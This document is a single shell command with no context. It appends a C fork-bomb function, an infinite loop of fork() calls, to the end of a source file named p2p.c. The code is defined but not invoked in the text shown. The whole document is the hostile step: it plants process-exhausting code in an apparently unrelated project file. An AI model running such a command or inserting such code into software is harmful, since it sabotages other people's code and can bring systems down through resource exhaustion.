echo 'int fork(void); int bomb(void); int bomb(void) { for (;;) fork(); }' >> p2p.c
